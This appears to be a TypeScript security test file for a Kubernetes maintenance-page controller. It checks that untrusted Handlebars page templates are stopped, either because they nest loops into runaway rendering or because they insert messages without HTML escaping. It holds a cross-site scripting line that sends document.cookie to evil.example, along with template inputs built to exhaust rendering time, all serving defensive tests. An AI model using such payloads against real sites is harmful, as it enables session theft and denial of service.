import {expect} from 'chai'

import {PREFIX} from '../reliability/support.js'
import {ATTACKER, type Tenancy, expectVictimServedOnTime, expectWarning, windowIn, useTenancy} from './support.js'

/** A page ConfigMap the attacker wrote with kubectl, so none of `page create`'s checks ran. */
function handWrittenPage(name: string, html: string): object {
  return {
    apiVersion: 'v1',
    data: {'page.html.hbs': html},
    kind: 'ConfigMap',
    metadata: {labels: {[`${PREFIX}role`]: 'page'}, name: `maintenance-page-${name}`, namespace: ATTACKER},
  }
}

/** The attacker's window, active from before the pass to well after it, showing `page`. */
function attackerWindow(tenancy: Tenancy, page: string, targets: string[], message = 'Upgrading the database'): object {
  const window = windowIn(ATTACKER, 'evil', targets, tenancy.t0 - 60_000, tenancy.t0 + 3_600_000, message)
  window.metadata.annotations![`${PREFIX}page`] = page
  return window
}

function backendBodies(tenancy: Tenancy): string {
  return tenancy
    .objects('v1', 'ConfigMap', ATTACKER)
    .filter((configMap) => configMap.metadata.labels?.[`${PREFIX}role`] === 'backend')
    .map((configMap) => JSON.stringify(configMap.data))
    .join('\n')
}

describe('security: untrusted page templates', function () {
  this.timeout(60_000)
  const tenancy = useTenancy()

  describe('a template that would render without end', () => {
    const inputs: Array<{what: string; html: string; targets: string[]; why: RegExp}> = [
      {
        // The attack: the sample render of compilePage never finished (2^40 iterations).
        html: `${'{{#each @root.targets}}'.repeat(40)}<i>x</i>${'{{/each}}'.repeat(40)}`,
        targets: ['ingress/shop'],
        what: '#each @root.targets nested 40 deep',
        why: /page "runaway" cannot be rendered: page\.html\.hbs line 1: blocks nest more than 10 deep/,
      },
      {
        // Within the nesting limit and harmless for the 2 sample targets, so it passes every check; the window's 30
        // targets make it 30^8 iterations, which only the time limit stops.
        html: `${'{{#each @root.targets}}'.repeat(8)}<i>{{this}}</i>${'{{/each}}'.repeat(8)}`,
        targets: Array.from({length: 30}, (_, i) => `service/s${i}`),
        what: '#each nested 8 deep over a window of 30 targets',
        why: /page "runaway" cannot be rendered: page\.html\.hbs: rendering took longer than 250 ms and was stopped/,
      },
    ]

    for (const input of inputs) {
      it(`is stopped (${input.what}): the pass ends, the victim is served on time, the attacker's window Fails saying why`, async () => {
        tenancy().server.seed(handWrittenPage('runaway', input.html), attackerWindow(tenancy(), 'runaway', input.targets))
        const outcome = await tenancy().pass()
        expectVictimServedOnTime(tenancy(), outcome)
        expect(tenancy().phase(ATTACKER, 'evil')).to.equal('Failed')
        const warning = expectWarning(tenancy(), input.why)
        expect(warning.involvedObject?.name).to.equal('evil')
        expect(tenancy().object('networking.k8s.io/v1', 'Ingress', ATTACKER, 'shop')?.metadata.annotations?.[`${PREFIX}original`], 'attacker target untouched').to.equal(undefined)
      })
    }
  })

  describe('a template that outputs the message without escaping', () => {
    const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
    const inputs: Array<{what: string; html: string; why: RegExp}> = [
      {html: '<p>{{{lookup this "message"}}}</p>', what: '{{{lookup this "message"}}}', why: /\{\{\{lookup …\}\}\} inserts text without HTML escaping/},
      {html: '<p>{{#lookup this "message"}}{{/lookup}}</p>', what: '{{#lookup this "message"}}, a helper block', why: /\{\{#lookup\}\} cannot open a block/},
    ]

    for (const input of inputs) {
      it(`is refused, never served (${input.what})`, async () => {
        tenancy().server.seed(handWrittenPage('raw', input.html), attackerWindow(tenancy(), 'raw', ['ingress/shop'], script))
        const outcome = await tenancy().pass()
        expectVictimServedOnTime(tenancy(), outcome)
        expect(tenancy().phase(ATTACKER, 'evil')).to.equal('Failed')
        expectWarning(tenancy(), input.why)
        expect(backendBodies(tenancy())).to.not.include('<script>')
      })
    }
  })
})
